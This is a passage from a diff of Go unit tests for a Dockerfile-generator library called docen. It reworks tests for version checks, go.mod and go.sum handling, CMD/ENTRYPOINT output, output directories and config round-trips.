+		},
+		{
+			name:     "older builder",
+			d:        New().SetGoVersion("1.20"),
+			goMod:    "module app\n\ngo 1.22\n",
+			wantWarn: true,
+		},
+		{
+			name:    "older builder in strict mode",
+			d:       New().SetGoVersion("1.22").SetStrictMode(true),
+			goMod:   "module app\n\ngo 1.22.1\n",
+			wantErr: true,
 		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			runVer = tt.runtimeVersion
-			if got := getVersion(); got != tt.want {
-				t.Errorf("getVersion() = %v, want %v", got, tt.want)
+			var warned bool
+			warn = func(format string, v ...interface{}) { warned = true }
+
+			runProject(t, fakeProject{contents: map[string]string{"go.mod": tt.goMod}}, func() error {
+				if err := tt.d.checkVersionSkew(); (err != nil) != tt.wantErr {
+					t.Errorf("checkVersionSkew() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return nil
+			})
+			if warned != tt.wantWarn {
+				t.Errorf("checkVersionSkew() warned = %v, want %v", warned, tt.wantWarn)
 			}
 		})
 	}
 }
 
-type fakeFolder struct {
-	fs.FileInfo
-	name string
-}
-
-func (f *fakeFolder) Name() string {
-	return f.name
-}
-
-func (f *fakeFolder) IsDir() bool {
-	return true
-}
-
-func Test_getAdditionalFolders(t *testing.T) {
-	oldReadDir := readDir
+func TestDocen_checkModuleMode(t *testing.T) {
+	oldWarn := warn
 	defer func() {
-		readDir = oldReadDir
+		warn = oldWarn
 	}()
 
 	tests := []struct {
-		name    string
-		want    additionalInfo
-		readDir func(dirname string) ([]fs.FileInfo, error)
+		name           string
+		d              *Docen
+		files          []fs.FileInfo
+		wantModuleMode bool
+		wantWarn       bool
+		wantErr        bool
 	}{
 		{
-			name:    "failed read dir",
-			want:    map[string]bool{},
-			readDir: func(dirname string) ([]fs.FileInfo, error) { return nil, errors.New("fake error") },
+			name:           "go.mod",
+			d:              New().SetGoVersion("1.22"),
+			files:          []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "main.go"}},
+			wantModuleMode: true,
 		},
 		{
-			name:    "empty dir",
-			want:    map[string]bool{},
-			readDir: func(dirname string) ([]fs.FileInfo, error) { return []fs.FileInfo{}, nil },
+			name:     "without go.mod",
+			d:        New().SetGoVersion("1.22"),
+			files:    []fs.FileInfo{&fakeFile{name: "main.go"}},
+			wantWarn: true,
 		},
 		{
-			name: "with folders",
-			want: map[string]bool{
-				"assets": true,
-				"static": true,
-				"config": true,
-			},
-			readDir: func(dirname string) ([]fs.FileInfo, error) {
-				return []fs.FileInfo{
-					&fakeFolder{name: "assets"},
-					&fakeFolder{name: "static"},
-					&fakeFolder{name: "config"},
-				}, nil
-			},
+			name:    "without go.mod in strict mode",
+			d:       New().SetGoVersion("1.22").SetStrictMode(true),
+			files:   []fs.FileInfo{&fakeFile{name: "main.go"}},
+			wantErr: true,
+		},
+		{
+			name:  "without go.mod and old builder",
+			d:     New().SetGoVersion("1.15.8").SetStrictMode(true),
+			files: []fs.FileInfo{&fakeFile{name: "main.go"}},
+		},
+		{
+			name:     "go.mod folder",
+			d:        New().SetGoVersion("1.22"),
+			files:    []fs.FileInfo{&fakeFolder{name: "go.mod"}},
+			wantWarn: true,
 		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			readDir = tt.readDir
-			if got := getAdditionalFolders(); !reflect.DeepEqual(got, tt.want) {
-				t.Errorf("getAdditionalFolders() = %v, want %v", got, tt.want)
+			var warned bool
+			warn = func(format string, v ...interface{}) { warned = true }
+
+			runProject(t, fakeProject{files: tt.files}, func() error {
+				if got := tt.d.isModuleMode(); got != tt.wantModuleMode {
+					t.Errorf("isModuleMode() = %v, want %v", got, tt.wantModuleMode)
+				}
+				if err := tt.d.checkModuleMode(); (err != nil) != tt.wantErr {
+					t.Errorf("checkModuleMode() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return nil
+			})
+			if warned != tt.wantWarn {
+				t.Errorf("checkModuleMode() warned = %v, want %v", warned, tt.wantWarn)
 			}
 		})
 	}
 }
 
-func Test_isVendorMode(t *testing.T) {
-	oldReadDir := readDir
+func TestDocen_checkGoSum(t *testing.T) {
+	oldWarn := warn
 	defer func() {
-		readDir = oldReadDir
+		warn = oldWarn
 	}()
 
+	const goMod = "module example.com/app\n\ngo 1.22\n\nrequire github.com/pkg/errors v0.9.1\n"
+	const goModWithoutRequire = "module example.com/app\n\ngo 1.22\n"
+
 	tests := []struct {
-		name    string
-		want    bool
-		readDir func(dirname string) ([]fs.FileInfo, error)
+		name     string
+		d        *Docen
+		files    []fs.FileInfo
+		goMod    string
+		wantWarn bool
+		wantErr  bool
 	}{
-
 		{
-			name:    "failed read dir",
-			want:    false,
-			readDir: func(dirname string) ([]fs.FileInfo, error) { return nil, errors.New("fake error") },
+			name:  "go.sum exists",
+			d:     New().SetStrictMode(true),
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}},
+			goMod: goMod,
 		},
 		{
-			name:    "empty dir",
-			want:    false,
-			readDir: func(dirname string) ([]fs.FileInfo, error) { return []fs.FileInfo{}, nil },
+			name:     "go.sum is missing",
+			d:        New(),
+			files:    []fs.FileInfo{&fakeFile{name: "go.mod"}},
+			goMod:    goMod,
+			wantWarn: true,
 		},
 		{
-			name: "without vendor folder",
-			want: false,
-			readDir: func(dirname string) ([]fs.FileInfo, error) {
-				return []fs.FileInfo{
-					&fakeFolder{name: "static"},
-					&fakeFolder{name: "config"},
-				}, nil
-			},
+			name:    "go.sum is missing in strict mode",
+			d:       New().SetStrictMode(true),
+			files:   []fs.FileInfo{&fakeFile{name: "go.mod"}},
+			goMod:   goMod,
+			wantErr: true,
 		},
 		{
-			name: "with vendor folder",
-			want: true,
-			readDir: func(dirname string) ([]fs.FileInfo, error) {
-				return []fs.FileInfo{
-					&fakeFolder{name: "config"},
-					&fakeFolder{name: "vendor"},
-				}, nil
-			},
+			name:  "go.sum is missing without requirements",
+			d:     New().SetStrictMode(true),
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}},
+			goMod: goModWithoutRequire,
+		},
+		{
+			name:  "go.sum is missing in vendor mode",
+			d:     New().SetStrictMode(true),
+			files: []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFolder{name: "vendor"}},
+			goMod: goMod,
+		},
+		{
+			name:  "without go.mod",
+			d:     New().SetStrictMode(true),
+			files: []fs.FileInfo{&fakeFile{name: "main.go"}},
 		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			readDir = tt.readDir
-			if got := isVendorMode(); got != tt.want {
-				t.Errorf("isVendorMode() = %v, want %v", got, tt.want)
+			var warned bool
+			warn = func(format string, v ...interface{}) { warned = true }
+
+			p := fakeProject{files: tt.files, contents: map[string]string{"go.mod": tt.goMod}}
+			runProject(t, p, func() error {
+				if err := tt.d.checkGoSum(); (err != nil) != tt.wantErr {
+					t.Errorf("checkGoSum() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return nil
+			})
+			if warned != tt.wantWarn {
+				t.Errorf("checkGoSum() warned = %v, want %v", warned, tt.wantWarn)
 			}
 		})
 	}
 }
 
-func Test_parsePackageName(t *testing.T) {
+func Test_compareVersions(t *testing.T) {
 	tests := []struct {
-		name   string
-		reader io.Reader
-		want   string
+		a, b string
+		want int
+	}{
+		{a: "1.22", b: "1.22", want: 0},
+		{a: "1.22", b: "1.22.0", want: 0},
+		{a: "1.9", b: "1.10", want: -1},
+		{a: "1.22.1", b: "1.22", want: 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.a+"_"+tt.b, func(t *testing.T) {
+			if got := compareVersions(tt.a, tt.b); got != tt.want {
+				t.Errorf("compareVersions() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetPassthroughEntrypoint(t *testing.T) {
+	d := New().SetPassthroughEntrypoint("/app serve --verbose")
+	want := []string{"FROM alpine\n", `ENTRYPOINT ["/bin/sh", "-c", "exec /app serve --verbose \"$@\"", "/app"]` + "\n"}
+	checkDockerfile(t, generateDockerfile(t, d), want, []string{"FROM scratch\n"})
+}
+
+func TestDocen_SetUseCMDInsteadOfEntrypoint(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
 	}{
 		{
-			name:   "failed read",
-			reader: bytes.NewReader(nil),
-			want:   defaultAppName,
+			name:  "disabled",
+			d:     New(),
+			want:  []string{"ENTRYPOINT [\"/app\"]\n"},
+			wantN: []string{"CMD"},
 		},
 		{
-			name:   "module name with quotation marks",
-			reader: strings.NewReader(`module "testmodulename"`),
-			want:   "testmodulename",
+			name:  "enabled",
+			d:     New().SetUseCMDInsteadOfEntrypoint(true).SetEntrypointArgs("serve"),
+			want:  []string{"CMD [\"/app\", \"serve\"]\n"},
+			wantN: []string{"ENTRYPOINT"},
 		},
 		{
-			name:   "module name without quotation marks",
-			reader: strings.NewReader(`module testmodulename`),
-			want:   "testmodulename",
+			name:  "minimal TLS",
+			d:     New().SetUseCMDInsteadOfEntrypoint(true).SetMinimalTLS(true),
+			want:  []string{"CMD [\"/app\"]\n"},
+			wantN: []string{"ENTRYPOINT"},
 		},
 		{
-			name:   "module name with url",
-			reader: strings.NewReader(`module github.com/lobz1g/docen`),
-			want:   "docen",
+			name:  "wasm",
+			d:     New().SetUseCMDInsteadOfEntrypoint(true).SetArch("wasm"),
+			want:  []string{"CMD [\"/app\"]\n"},
+			wantN: []string{"ENTRYPOINT"},
 		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			if got := parsePackageName(tt.reader); got != tt.want {
-				t.Errorf("parsePackageName() = %v, want %v", got, tt.want)
-			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
 		})
 	}
 }
 
-func TestNew(t *testing.T) {
-	oldReadDir := readDir
-	oldRuntimeVersion := runVer
-	defer func() {
-		runVer = oldRuntimeVersion
-		readDir = oldReadDir
-	}()
-	runVer = func() string { return "go1.13" }
-	readDir = func(dirname string) ([]fs.FileInfo, error) { return []fs.FileInfo{}, nil }
-
-	want := &Docen{
-		version:         "1.13-alpine",
-		additionFolders: newAdditionalInfo(),
-		additionFiles:   newAdditionalInfo(),
+func TestDocen_GenerateImageSpec_cmd(t *testing.T) {
+	want := `{
+  "user": "appuser",
+  "cmd": [
+    "/app"
+  ]
+}
+`
+	files := runProject(t, fakeProject{}, New().SetUseCMDInsteadOfEntrypoint(true).GenerateImageSpec)
+	if got := files["image-spec.json"]; got != want {
+		t.Errorf("GenerateImageSpec() = %v, want %v", got, want)
 	}
-
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := New(); !reflect.DeepEqual(got, want) {
-			t.Errorf("New() = %v, want %v", got, want)
-		}
-	})
 }
 
-func TestDocen_SetGoVersion(t *testing.T) {
-	want := &Docen{
-		version: "1.13-alpine",
+func TestDocen_SetFS(t *testing.T) {
+	fsys := fstest.MapFS{
+		"go.mod":                 &fstest.MapFile{Data: []byte("module github.com/lobz1g/server\n\ngo 1.16\n")},
+		"go.sum":                 &fstest.MapFile{Data: []byte("")},
+		"static/index.html":      &fstest.MapFile{Data: []byte("<html></html>")},
+		"cmd/server/main.go":     &fstest.MapFile{Data: []byte("package main\n\n//docen:port 8080\nfunc main() {}\n")},
+		"internal/app/app.go":    &fstest.MapFile{Data: []byte("package app\n")},
+		"templates/index.gohtml": &fstest.MapFile{Data: []byte("")},
 	}
 
-	d := &Docen{}
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := d.SetGoVersion("1.13"); !reflect.DeepEqual(got, want) {
-			t.Errorf("New() = %v, want %v", got, want)
-		}
-	})
+	got := runProject(t, fakeProject{}, func() error {
+		return New().SetGoVersion("1.16").SetFS(fsys).GenerateDockerfile()
+	})["Dockerfile"]
 
+	want := []string{
+		"RUN mkdir -p /server/static\nRUN mkdir -p /server/templates\n",
+		"COPY go.mod go.sum /server/\nRUN go mod download\n",
+		"go build -ldflags=\"-w -s\" -o /server ./cmd/server\n",
+		"EXPOSE 8080\n",
+	}
+	checkDockerfile(t, got, want, []string{"-mod=vendor"})
 }
 
-func TestDocen_SetPort(t *testing.T) {
-	want := &Docen{
-		port: "3000",
+func TestDocen_SetOutputDir(t *testing.T) {
+	fsys := fstest.MapFS{
+		"main.go":           &fstest.MapFile{Data: []byte("package main\n\nfunc main() {}\n")},
+		"static/index.html": &fstest.MapFile{Data: []byte("<html></html>")},
 	}
 
-	d := &Docen{}
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := d.SetPort("3000"); !reflect.DeepEqual(got, want) {
-			t.Errorf("New() = %v, want %v", got, want)
-		}
-	})
+	tests := []struct {
+		name      string
+		d         *Docen
+		wantFiles []string
+		want      []string
+	}{
+		{
+			name:      "filesystem",
+			d:         New().SetFS(fsys),
+			wantFiles: []string{"Dockerfile"},
+			want:      []string{"-o /app\n", "COPY --from=builder /app/static /app/static\n"},
+		},
+		{
+			name:      "absolute dir",
+			d:         New().SetFS(fsys).SetOutputDir("/src/server"),
+			wantFiles: []string{"/src/server/Dockerfile"},
+			want:      []string{"-o /server\n", "COPY --from=builder /server/static /server/static\n"},
+		},
+		{
+			name:      "relative dir",
+			d:         New().SetFS(fsys).SetOutputDir("services/worker"),
+			wantFiles: []string{"services/worker/Dockerfile"},
+			want:      []string{"-o /worker\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := runProject(t, fakeProject{}, tt.d.GenerateDockerfile)
+			if len(got) != len(tt.wantFiles) {
+				t.Errorf("GenerateDockerfile() files = %v, want %v", len(got), tt.wantFiles)
+			}
+			for _, name := range tt.wantFiles {
+				checkDockerfile(t, got[name], tt.want, nil)
+			}
+		})
+	}
 }
 
-func TestDocen_SetTimezone(t *testing.T) {
-	want := &Docen{
-		timezone: "Time/Zone",
+func TestDocen_SetOutputDir_readBack(t *testing.T) {
+	project := fakeProject{
+		files: []fs.FileInfo{&fakeFile{name: "main.go"}},
+		contents: map[string]string{
+			"main.go":           "package main\n",
+			".dockerignore":     "cwd\n",
+			"svc/.dockerignore": "# local files\n*.env\n",
+		},
 	}
 
-	d := &Docen{}
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := d.SetTimezone("Time/Zone"); !reflect.DeepEqual(got, want) {
-			t.Errorf("New() = %v, want %v", got, want)
+	t.Run("dockerignore", func(t *testing.T) {
+		got := runProject(t, project, New().SetOutputDir("svc").GenerateDockerignore)
+		want := "# local files\n*.env\n.git\n.idea\n.vscode\nDockerfile\n.dockerignore\n"
+		if got["svc/.dockerignore"] != want {
+			t.Errorf("GenerateDockerignore() = %q, want %q", got["svc/.dockerignore"], want)
 		}
 	})
-}
-
-func TestDocen_SetAdditionalFolder(t *testing.T) {
-	want := &Docen{
-		additionFolders: map[string]bool{
-			"test":   true,
-			"folder": true,
-		},
-	}
 
-	d := &Docen{
-		additionFolders: newAdditionalInfo(),
-	}
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := d.SetAdditionalFolder("test").SetAdditionalFolder("folder"); !reflect.DeepEqual(got, want) {
+	t.Run("dockerfile if changed", func(t *testing.T) {
+		d := New().SetOutputDir("svc")
+		dockerfile := runProject(t, project, d.GenerateDockerfile)["svc/Dockerfile"]
+		project.contents["svc/Dockerfile"] = dockerfile
+		defer delete(project.contents, "svc/Dockerfile")
 
-			t.Errorf("New() = %v, want %v", got, want)
+		var changed bool
+		got := runProject(t, project, func() (err error) {
+			changed, err = d.GenerateDockerfileIfChanged()
+			return err
+		})
+		if changed || len(got) != 0 {
+			t.Errorf("GenerateDockerfileIfChanged() = %v, files %v, want unchanged", changed, got)
 		}
 	})
 
+	t.Run("config", func(t *testing.T) {
+		d := New().SetOutputDir("svc").SetPort("3000").SetTimezone("UTC")
+		saved := runProject(t, project, func() error { return d.SaveConfig("x.json") })
+		if _, ok := saved["svc/x.json"]; !ok {
+			t.Fatalf("SaveConfig() files = %v, want svc/x.json", saved)
+		}
+		project.contents["svc/x.json"] = saved["svc/x.json"]
+		defer delete(project.contents, "svc/x.json")
+
+		var loaded *Docen
+		runProject(t, project, func() error {
+			loaded = New().SetOutputDir("svc").SetConfigFile("x.json")
+			return loaded.err
+		})
+		if loaded.port != "3000" || loaded.timezone != "UTC" {
+			t.Errorf("SetConfigFile() = %v, want the saved config", loaded.config())
+		}
+	})
 }
 
-func TestDocen_SetAdditionalFile(t *testing.T) {
-	want := &Docen{
-		additionFolders: map[string]bool{
-			"test":   true,
-			"folder": true,
+func TestDocen_instanceHooks(t *testing.T) {
+	newDocen := func(module, goVersion, port, folder string) *Docen {
+		contents := map[string]string{
+			goModFile: "module github.com/lobz1g/" + module + "\n",
+			"main.go": "package main\n\n//docen:port " + port + "\nfunc main() {}\n",
+		}
+		return New().SetHooks(Hooks{
+			ReadDir: func(dirname string) ([]fs.FileInfo, error) {
+				return []fs.FileInfo{&fakeFile{name: goModFile}, &fakeFile{name: "main.go"}, &fakeFolder{name: folder}}, nil
+			},
+			OpenFile: func(name string) (io.ReadCloser, error) {
+				if data, ok := contents[name]; ok {
+					return io.NopCloser(strings.NewReader(data)), nil
+				}
+				return nil, errors.New("fake error")
+			},
+			RuntimeVersion: func() string { return goVersion },
+		})
+	}
+
+	tests := []struct {
+		name string
+		d    *Docen
+		want []string
+	}{
+		{
+			name: "first instance",
+			d:    newDocen("server", "go1.16", "8080", "static"),
+			want: []string{
+				"FROM golang:1.16-alpine as builder\n", "-o /server\n", "EXPOSE 8080\n",
+				"COPY --from=builder /server/static /server/static\n",
+			},
 		},
-		additionFiles: map[string]bool{
-			"test/file1":   true,
-			"folder/file2": true,
+		{
+			name: "second instance",
+			d:    newDocen("worker", "go1.15.2", "9090", "templates"),
+			want: []string{
+				"FROM golang:1.15.2-alpine as builder\n", "-o /worker\n", "EXPOSE 9090\n",
+				"COPY --from=builder /worker/templates /worker/templates\n",
+			},
 		},
 	}
 
-	d := &Docen{
-		additionFolders: newAdditionalInfo(),
-		additionFiles:   newAdditionalInfo(),
+	got := make([]string, len(tests))
+	errs := make([]error, len(tests))
+	var wg sync.WaitGroup
+	for i, tt := range tests {
+		wg.Add(1)
+		go func(i int, d *Docen) {
+			defer wg.Done()
+			got[i], errs[i] = d.Render()
+		}(i, tt.d)
 	}
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := d.SetAdditionalFile("test/file1").SetAdditionalFile("folder/file2"); !reflect.DeepEqual(got, want) {
-
-			t.Errorf("New() = %v, want %v", got, want)
-		}
-	})
+	wg.Wait()
 
-}
-
-func TestDocen_SetTestMode(t *testing.T) {
-	want := &Docen{
-		isTestMode: true,
+	for i, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if errs[i] != nil {
+				t.Fatalf("Render() error = %v", errs[i])
+			}
+			checkDockerfile(t, got[i], tt.want, nil)
+		})
 	}
-
-	d := &Docen{}
-	t.Run(t.Name(), func(t *testing.T) {
-		if got := d.SetTestMode(true); !reflect.DeepEqual(got, want) {
-			t.Errorf("New() = %v, want %v", got, want)
-		}
-	})
-
 }